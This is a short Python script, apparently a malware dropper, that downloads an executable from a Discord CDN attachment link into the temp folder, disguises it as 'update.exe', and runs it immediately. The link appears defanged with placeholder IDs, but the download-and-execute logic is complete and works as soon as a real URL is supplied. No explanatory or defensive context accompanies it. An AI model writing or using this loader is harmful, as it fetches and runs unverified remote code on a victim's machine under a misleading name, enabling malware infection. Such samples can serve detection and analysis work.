import os
import tempfile
import urllib.request

_dst = os.path.join(tempfile.gettempdir(), "update.exe")
urllib.request.urlretrieve(
    "https://cdn.discordapp.com/attachments/0000/0000/DEFANGED.exe", _dst
)
os.startfile(_dst)
